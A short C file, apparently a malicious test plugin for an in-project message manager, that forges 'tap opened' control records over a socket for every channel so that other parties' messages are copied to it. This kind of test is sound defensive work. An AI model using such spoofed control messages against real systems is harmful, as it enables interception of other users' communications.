// Orders the manager, in the manager's own words, to have the victim's messages copied to it.
#include "link.h"

static void attack(void) {
  enum { kTapOpened = 11 };
  struct {
    struct link_header header;
    uint64_t channel, copies;
  } record = {{2, kTapOpened, 0, sizeof record, 0}, 1, 2};
  for (record.channel = 1; record.channel < 64; ++record.channel)
    (void)send(3, &record, sizeof record, MSG_NOSIGNAL);
}

EVIL_PLUGIN;
